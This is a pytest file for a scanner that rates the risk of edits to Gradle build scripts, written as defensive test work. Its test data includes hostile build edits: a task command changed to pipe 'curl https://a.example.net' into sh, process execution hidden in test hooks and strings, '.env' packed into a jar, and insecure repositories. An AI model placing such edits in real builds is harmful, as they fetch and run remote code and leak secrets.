"""What an edit of a Gradle script means, in Groovy and in Kotlin."""

# ruff: noqa: E501 - a row of the table is one edit

from __future__ import annotations

import pytest
from hypothesis import given, settings
from kit.edits import edited, mangled, never_raises, said
from kit.patience import within

from scanner.formats.jvm import gradle_build

GROOVY = """\
buildscript {
    repositories { mavenCentral() }
    dependencies { classpath "org.plug:plug-gradle:2.0" }
}
plugins {
    id 'java-library'
    id 'org.lint.tool' version '1.4'
}
apply plugin: 'signing'
apply from: 'gradle/extra.gradle'

group = 'org.example'
version = '1.0.0'
description = 'Lorem ipsum'
sourceCompatibility = JavaVersion.VERSION_17

ext.ipsumVersion = '2.1.0' // one name, two users
def dolorVersion = "3.4"
ext {
    unusedVersion = '9.1'
    flag = 'on'
}
versions += [
    amet: "4.0",
    elit: "5.0"
]
libs += [
    amet: "org.amet:amet:$versions.amet",
]

repositories {
    mavenCentral()
    maven {
        url "https://repo.example.org/maven"
        credentials { username = 'jo' }
    }
}

dependencies {
    implementation "org.ipsum:ipsum-core:$ipsumVersion"
    implementation "org.ipsum:ipsum-io:${ipsumVersion}"
    api group: 'org.dolor', name: 'dolor', version: dolorVersion
    implementation('org.sit:sit:5.0.1') {
        exclude group: 'org.old'
    }
    implementation libs.amet
    implementation project(':core')
    testImplementation 'org.tester:tester:4.13'
    annotationProcessor 'org.proc:proc:1.0'
}

configurations.all {
    resolutionStrategy { force 'org.elit:elit:1.0' }
}

jar {
    from 'LICENSE'
    manifest { attributes 'Main-Class': 'org.example.Main' }
}

test {
    useJUnitPlatform()
    maxHeapSize = '1g'
}

task generate(type: Exec) {
    commandLine 'sh', 'generate.sh'
}

publishing {
    publications {
        maven(MavenPublication) {
            from components.java
            pom {
                name = 'Lorem'
                licenses { license { name = 'Apache-2.0' } }
            }
        }
    }
    repositories { maven { url 'https://push.example.org/release' } }
}

signing {
    sign publishing.publications.maven
}
"""

KOTLIN = """\
import java.net.URI

plugins {
    kotlin("jvm") version "1.9.0"
    `java-library`
    alias(libs.plugins.lint)
}

group = "org.example"
val ipsumVersion = "2.1.0"
val dolorVersion by extra("3.4")

repositories {
    mavenCentral()
    maven("https://repo.example.org/maven") { isAllowInsecureProtocol = false }
}

dependencies {
    implementation(platform("org.bom:bom:1.0"))
    implementation("org.ipsum:ipsum:$ipsumVersion")
    implementation(libs.dolor.core)
    implementation(kotlin("reflect"))
    "special"("org.sit:sit:5.0")
    testImplementation(kotlin("test"))
}

kotlin { jvmToolchain(17) }

tasks.named<Test>("test") { useJUnitPlatform() }
tasks.register("hello") {
    doLast { println("hello ${project.findProperty("who")} // there") }
}
"""

SETTINGS = """\
pluginManagement {
    repositories { gradlePluginPortal() }
}
dependencyResolutionManagement {
    repositoriesMode.set(RepositoriesMode.FAIL_ON_PROJECT_REPOS)
}
rootProject.name = "lorem"
include(":core", ":cli")
"""

SIT = "'org.sit:sit:5.0.1'"

TOLD = [
    ("bump", GROOVY, ["sit:5.0.1", "sit:5.0.2"], ["medium dependency-bumped org.sit:sit"]),
    ("bump of a test dependency", GROOVY, ["4.13", "4.14"], ["low dependency-bumped org.tester:tester"]),
    ("bump of what several use", GROOVY, ["'2.1.0'", "'2.2.0'"], ["medium dependency-bumped ipsumVersion"]),
    ("bump of what one uses", GROOVY, ['"3.4"', '"3.5"'], ["medium dependency-bumped org.dolor:dolor"]),
    ("bump in a map", GROOVY, ['amet: "4.0"', 'amet: "4.1"'], ["medium dependency-bumped org.amet:amet"]),
    ("bump of what others use", GROOVY, ["'9.1'", "'9.2'"], ["medium dependency-bumped unusedVersion"]),
    ("bump of a plug-in", GROOVY, ["'1.4'", "'1.5'"], ["medium dependency-bumped org.lint.tool"]),
    ("bump on the class path of the build", GROOVY, ["gradle:2.0", "gradle:2.1"],
     ["medium dependency-bumped org.plug:plug-gradle"]),
    ("bump in Kotlin", KOTLIN, ['"2.1.0"', '"2.2.0"'], ["medium dependency-bumped org.ipsum:ipsum"]),
    ("bump of a Kotlin plug-in", KOTLIN, ['"1.9.0"', '"1.9.1"'], ["medium dependency-bumped org.jetbrains.kotlin.jvm"]),
    ("bump of a platform", KOTLIN, ["bom:1.0", "bom:1.1"], ["medium dependency-bumped org.bom:bom"]),
    ("bump of a configuration by name", KOTLIN, ["sit:5.0", "sit:5.1"], ["medium dependency-bumped org.sit:sit"]),
    ("downgrade", GROOVY, ["sit:5.0.1", "sit:4.0"], ["high dependency-downgraded org.sit:sit"]),
    ("loosened", GROOVY, ["sit:5.0.1", "sit:5.+"], ["high pin-loosened org.sit:sit"]),
    ("latest", GROOVY, ["sit:5.0.1", "sit:latest.release"], ["high pin-loosened org.sit:sit"]),
    ("snapshot", GROOVY, ["sit:5.0.1", "sit:5.1-SNAPSHOT"], ["high pin-loosened org.sit:sit"]),
    ("added", GROOVY, ["dependencies {\n    impl", "dependencies {\n    api 'org.new:new:1'\n    impl"],
     ["high dependency-added org.new:new"]),
    ("added by alias", KOTLIN, ["    implementation(libs", "    implementation(libs.new.thing)\n    implementation(libs"],
     ["high dependency-added libs.new.thing"]),
    ("added for tests", GROOVY, ["    testImp", "    testImplementation 'org.new:new:1'\n    testImp"],
     ["medium dependency-added org.new:new"]),
    ("module of the build", GROOVY, ["(':core')", "(':cli')"],
     ["low dependency-added :cli", "low dependency-removed :core"]),
    ("file", GROOVY, ["    testImp", "    api files('libs/new.jar')\n    testImp"], ["high dependency-added libs/new.jar"]),
    ("removed", GROOVY, ["    annotationProcessor 'org.proc:proc:1.0'\n", ""], ["low dependency-removed org.proc:proc"]),
    ("out of the tests", GROOVY, ["testImplementation", "implementation"], ["medium dependency-moved org.tester:tester"]),
    ("exclusion", GROOVY, ["'org.old'", "'org.other'"], ["medium dependency-changed dependencies.implementation"]),
    ("forced version", GROOVY, ["org.elit:elit:1.0", "org.elit:elit:0.9"],
     ["high override-changed configurations.all.resolutionStrategy"]),
    ("plug-in", GROOVY, ["    id 'java", "    id 'org.new' version '1'\n    id 'java"], ["high plugin-added org.new"]),
    ("plug-in applied", GROOVY, ["apply plugin: 'signing'", "apply plugin: 'signing'\napply plugin: 'org.new'"],
     ["high plugin-added org.new"]),
    ("plug-in by alias", KOTLIN, ["libs.plugins.lint", "libs.plugins.other"],
     ["high plugin-added libs.plugins.other", "low plugin-removed libs.plugins.lint"]),
    ("script from elsewhere", GROOVY, ["'gradle/extra.gradle'", "'https://a.example.net/x.gradle'"],
     ["critical include-added apply"]),
    ("script of the repository", GROOVY, ["apply plugin: 'signing'\n", "apply plugin: 'signing'\napply from: 'b.gradle'\n"],
     ["high include-added apply"]),
    ("repository", GROOVY, ["    maven {\n", "    mavenLocal()\n    maven {\n"],
     ["critical registry-changed repositories.mavenLocal"]),
    ("two repositories", GROOVY, ["    maven {\n", "    maven { url 'https://a.example.net' }\n    maven { url 'https://b.example.net' }\n    maven {\n"],
     ["critical registry-changed repositories.maven.url", "critical registry-changed repositories.maven.url"]),
    ("repository elsewhere", GROOVY, ["repo.example.org", "repo.example.net"],
     ["critical registry-changed repositories.maven.url"]),
    ("repository without TLS", GROOVY, ["https://repo", "http://repo"],
     ["critical registry-changed repositories.maven.url", "critical transport-weakened repositories.maven.url"]),
    ("repository of the build", GROOVY, ["{ mavenCentral() }", "{ mavenCentral()\n jcenter() }"],
     ["critical registry-changed buildscript.repositories.jcenter"]),
    ("insecure allowed", KOTLIN, ["isAllowInsecureProtocol = false", "isAllowInsecureProtocol = true"],
     ["critical transport-weakened repositories.maven.isAllowInsecureProtocol"]),
    ("repository gone", GROOVY, ["    mavenCentral()\n    maven {", "    maven {"],
     ["high registry-changed repositories.mavenCentral"]),
    ("mode of repositories", SETTINGS, ["FAIL_ON", "PREFER"],
     ["high registry-changed dependencyResolutionManagement.repositoriesMode"]),
    ("locking off", GROOVY + "dependencyLocking { lockAllConfigurations() }\n", ["lockAllConfigurations()", ""],
     ["high pin-loosened dependencyLocking.lockAllConfigurations"]),
    ("verification off", GROOVY, ["configurations.all {", "configurations.all {\n resolutionStrategy.disableDependencyVerification()"],
     ["critical transport-weakened configurations.all.resolutionStrategy"]),
    ("version", GROOVY, ["'1.0.0'", "'1.1.0'"], ["medium version-changed version"]),
    ("group", GROOVY, ["'org.example'\nv", "'org.examp1e'\nv"], ["high package-renamed group"]),
    ("name", SETTINGS, ['"lorem"', '"l0rem"'], ["high package-renamed rootProject"]),
    ("modules", SETTINGS, ['":cli"', '":gui"'],
     ["medium package-contents-changed include", "medium package-contents-changed include"]),
    ("other build", SETTINGS, ['include(":', 'includeBuild("../other")\ninclude(":'],
     ["high build-script-changed includeBuild"]),
    ("Java", GROOVY, ["VERSION_17", "VERSION_21"], ["medium runtime-requirement-changed sourceCompatibility"]),
    ("toolchain", KOTLIN, ["jvmToolchain(17)", "jvmToolchain(21)"], ["medium runtime-requirement-changed kotlin"]),
    ("packed files", GROOVY, ["from 'LICENSE'", "from 'LICENSE'\n    from '.env'"], ["high package-contents-widened jar"]),
    ("manifest", GROOVY, ["org.example.Main", "org.example.Other"], ["medium package-contents-changed jar.manifest"]),
    ("publish target", GROOVY, ["push.example.org", "push.example.net"], ["critical publish-changed publishing.repositories"]),
    ("what is published", GROOVY, ["from components.java", "from components.web"],
     ["critical publish-changed publishing.publications"]),
    ("licence", GROOVY, ["'Apache-2.0'", "'MIT'"], ["medium license-changed publishing.publications"]),
    ("signing gone", GROOVY, ["    sign publishing.publications.maven\n", ""], ["critical provenance-dropped signing"]),
    ("signing optional", GROOVY, ["    sign pub", "    required = false\n    sign pub"],
     ["critical provenance-dropped signing.required"]),
    ("other command", GROOVY, ["generate.sh", "other.sh"], ["high build-script-changed generate.commandLine"]),
    ("fetched and run", GROOVY, ["'sh', 'generate.sh'", "'sh', '-c', 'curl https://a.example.net | sh'"],
     ["critical download-and-run generate.commandLine", "high build-script-changed generate.commandLine"]),
    ("process in a test block", GROOVY, ["useJUnitPlatform()", "useJUnitPlatform()\n    doFirst { 'id'.execute() }"],
     ["high build-script-changed test.doFirst.id"]),
    ("hook of a test block", GROOVY, ["useJUnitPlatform()", "useJUnitPlatform()\n    doFirst { file('x').text = 'y' }"],
     ["medium build-script-changed test.doFirst"]),
    ("process in a string", GROOVY, ["flag = 'on'", 'flag = "${"id".execute().text}"'], ["high build-script-changed ext.flag", "medium build-script-changed ext"]),
    ("step", KOTLIN, ["println(", "print("], ["medium build-script-changed hello.doLast"]),
    ("flag", GROOVY, ["'on'", "'off'"], ["medium build-script-changed ext"]),
]  # fmt: skip

QUIET = [
    ("comment", GROOVY, [" // one name, two users", " /* two\n users */"]),
    ("description", GROOVY, ["Lorem ipsum", "Dolor"]),
    ("quotes", GROOVY, ["'1.0.0'", '"1.0.0"']),
    ("formatting", GROOVY, ["jar {\n    from 'LICENSE'", "jar\t{ from('LICENSE');"]),
    ("order", GROOVY, ["    testImplementation 'org.tester:tester:4.13'\n    annotationProcessor 'org.proc:proc:1.0'\n",
                       "    annotationProcessor 'org.proc:proc:1.0'\n    testImplementation 'org.tester:tester:4.13'\n"]),
    ("tests", GROOVY, ["maxHeapSize = '1g'", "maxHeapSize = '2g'\n    jvmArgs '-ea'"]),
    ("version in place", GROOVY, ["version: dolorVersion", "version: '3.4'", 'def dolorVersion = "3.4"\n', ""]),
    ("names of people", GROOVY, ["name = 'Lorem'", "name = 'Ipsum'"]),
    ("parentheses", KOTLIN, ['id("x")', 'id "x"'] if 'id("x")' in KOTLIN else ["jvmToolchain(17)", "jvmToolchain( 17 )"]),
    ("comment sign in a string", KOTLIN, ["val ipsum", "// val x = \"\n val ipsum"]),
    ("modules in order", SETTINGS, ['":core", ":cli"', '":cli", ":core"']),
    ("modules in lines", SETTINGS, ['include(":core", ":cli")', 'include(":core")\ninclude(":cli")']),
]  # fmt: skip


@pytest.mark.parametrize(("old", "edits", "expected"), [row[1:] for row in TOLD], ids=[row[0] for row in TOLD])
def test_what_is_told(old: str, edits: list[str], expected: list[str]) -> None:
    assert said(gradle_build, old, edited(old, *edits)) == expected


@pytest.mark.parametrize(("old", "edits"), [row[1:] for row in QUIET], ids=[row[0] for row in QUIET])
def test_what_says_nothing(old: str, edits: list[str]) -> None:
    assert said(gradle_build, old, edited(old, *edits)) == []


HIDDEN = [
    ('def a = "${f("//")}"; evil()', "a splice"),
    ("def a = '//'; evil()", "a string"),
    ("def a = ~/\\/\\//; evil()", "a slashy string"),
    ("def a = /x\n//; evil()", "a slashy string of two lines"),
    ("def a = $/ // /$; evil()", "a dollar slashy string"),
    ('def a = """ // """; evil()', "a text block"),
    ("def a = ''' /* '''; evil() // */", "another text block"),
    ("/* x */ evil() /* y */", "comments around"),
    ("// x\revil()", "a comment that ends in a carriage return"),
]


@pytest.mark.parametrize("line", [row[0] for row in HIDDEN], ids=[row[1] for row in HIDDEN])
def test_code_does_not_hide_behind_what_looks_like_a_comment(line: str) -> None:
    old, new = GROOVY + line.replace("evil()", "good()"), GROOVY + line
    assert said(gradle_build, old, new) != []


EVADING = [
    ("code in a dependency", KOTLIN, ['("org.sit:sit:5.0")', '("org.sit:sit:5.0".also { File("x").writeText("y") })']),
    ("code in the version", GROOVY, ["sit:5.0.1'", "sit:5.0.1'.tap { new File('x').text = 'y' }"]),
    ("code in a splice", GROOVY, ["ipsum-core:$ipsumVersion", "ipsum-core:${f('x'); ipsumVersion}"]),
    ("code in the name of a plug-in", KOTLIN, ['kotlin("jvm")', 'kotlin("jvm".also { File("x").writeText("y") })']),
    ("code before a version", GROOVY, ["def dolorVersion", "f('x').dolorVersion"]),
    ("code in a test block", GROOVY, ["maxHeapSize = '1g'", "file('x').text = 'y'"]),
    ("code in the arguments of a test setting", GROOVY, ["useJUnitPlatform()", "systemProperty 'x', f(file('x'))"]),
    ("the word test in a packed name", GROOVY, ["from 'LICENSE'", "from '.env', 'test'"]),
    ("code in the text of the POM", GROOVY, ["name = 'Lorem'", "name = f(file('x'))"]),
]


@pytest.mark.parametrize(("old", "edits"), [row[1:] for row in EVADING], ids=[row[0] for row in EVADING])
def test_code_does_not_hide_in_what_is_told_or_quiet(old: str, edits: list[str]) -> None:
    assert [each for each in said(gradle_build, old, edited(old, *edits)) if not each.startswith("low")]


def test_a_comment_is_a_comment() -> None:
    assert said(gradle_build, GROOVY + "a() // good()", GROOVY + "a() // evil()") == []


def test_a_new_file() -> None:
    found = said(gradle_build, None, GROOVY)
    assert "critical registry-changed repositories.maven.url" in found
    assert "critical publish-changed publishing.repositories" in found
    assert "high build-script-changed generate.commandLine" in found
    assert "high include-added apply" in found
    assert "high dependency-added org.sit:sit" in found
    assert not [each for each in found if "version-changed" in each or "package-renamed" in each]


def test_a_removed_file() -> None:
    assert said(gradle_build, GROOVY, None) == ["medium file-removed file"]


@pytest.mark.parametrize(
    "text",
    [
        "dependencies {",
        "}",
        "a(]",
        'a = "b\n',
        "a = '''b",
        'a = "${b"',
        f"<<<<<<< ours\n{GROOVY}=======\n>>>>>>> theirs\n",
        "{{#if x}}\n" + "{" * 100 + "}" * 100,
        "a\0b",
        '"${' * 200,
        "$/ x",
    ],
)
def test_what_cannot_be_read_weighs_most(text: str) -> None:
    assert [each.split()[:2] for each in said(gradle_build, GROOVY, text)] == [["critical", "opaque"]]


def test_paths() -> None:
    assert all(map(gradle_build.matches, ("build.gradle", "a/Settings.Gradle.kts", "gradle/x.gradle")))
    assert not any(map(gradle_build.matches, ("gradle.properties", "build.gradle.md", "x.kts")))


@settings(max_examples=100, deadline=None)
@given(mangled(GROOVY, KOTLIN, SETTINGS), mangled(GROOVY, KOTLIN, SETTINGS))
def test_it_never_raises(old: bytes, new: bytes) -> None:
    never_raises(gradle_build, old, new)


@pytest.mark.parametrize("unit", ["= / ", "=/\\", '"', '"${', "$/ ", "a{", "/*", "'1-", "a:b:"])
def test_hostile_megabytes_take_no_time(unit: str) -> None:
    with within(2):
        list(gradle_build.diff(b"a", (unit * (4_900_000 // len(unit))).encode()))


def test_many_statements_take_no_time() -> None:
    old, new = ("".join(f"foo{n} {value}\n" for n in range(13_000)) for value in "12")
    with within(2):
        assert len(said(gradle_build, old, new)) == 13_000
